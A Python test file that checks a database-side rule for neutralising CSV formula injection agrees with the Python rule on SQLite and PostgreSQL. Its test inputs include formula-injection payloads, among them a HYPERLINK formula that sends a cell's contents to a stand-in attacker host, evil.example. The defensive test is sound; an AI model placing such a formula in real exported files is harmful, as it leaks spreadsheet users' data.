"""The formula-injection rule in SQL (service/infra/csv_cells.py) agrees with the Python rule,
on SQLite and on PostgreSQL."""

from __future__ import annotations

from sqlalchemy import create_engine, text

from service.infra.csv_cells import neutralise_cell, neutralised_sql

VALUES = [
    "=1+1", "+86 10", "-5", "@SUM(A1)", "\tTAB", "\rCR", "'already", "张三", "a=b", " =x", "", "=", "x\n=y",
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "O'Brien", None,
]


def test_the_database_neutralises_exactly_like_python(database_url):
    engine = create_engine(database_url)
    query = text(f"SELECT {neutralised_sql('CAST(:value AS TEXT)')}")
    try:
        with engine.connect() as conn:
            found = {value: conn.execute(query, {"value": value}).scalar() for value in VALUES}
    finally:
        engine.dispose()
    assert found == {value: neutralise_cell(value) for value in VALUES}
